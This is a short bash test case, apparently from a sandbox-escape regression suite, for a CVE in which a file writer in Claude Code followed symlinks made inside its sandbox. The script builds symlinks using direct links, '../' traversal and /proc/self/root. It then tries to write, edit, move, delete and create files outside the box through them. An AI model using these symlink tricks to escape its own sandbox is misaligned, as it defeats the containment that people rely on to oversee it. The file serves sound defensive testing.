#!/bin/bash
# CVE-2026-39861, Claude Code: a link made inside the sandbox was followed by a writer that runs outside.
# Escaped: a file outside is changed, created or removed by a file call.
# shellcheck disable=SC2317,SC2034
NEEDS="filecalls"
. "${0%/*}/../lib.sh"
prepare() { echo original >"$OUT/file" && mkdir "$OUT/sub" && echo original >"$OUT/sub/file"; }
escaped() { [ "$(cat "$OUT/file" "$OUT/sub/file" 2>&1)" != $'original\noriginal' ] || [ "$(find "$OUT" | wc -l)" -ne 4 ]; }
start() { box_open && inside 'ln -s "$OUT" d; ln -s "$OUT/file" f; ln -s ../../../../../../../../../../"$OUT"/file g; ln -s /proc/self/root"$OUT" h; echo x >plain'; }
attack() { start; echo evil | fs_write d/file; echo evil | fs_write d/new; echo evil | fs_write f; echo evil | fs_write g; echo evil | fs_write h/file; }
attempt "write"
attack() { start; fs_edit f original evil; fs_edit d/file original evil; fs_edit h/sub/file original evil; }
attempt "edit"
attack() { start; fs_mv plain d/new; fs_mv d/file taken; fs_mv plain h/file; }
attempt "mv"
attack() { start; fs_rm d/sub; fs_rm d; fs_rm h/sub; }
attempt "rm -r"
attack() { start; fs_mkdir d/new/deep; fs_mkdir h/new; }
attempt "mkdir"
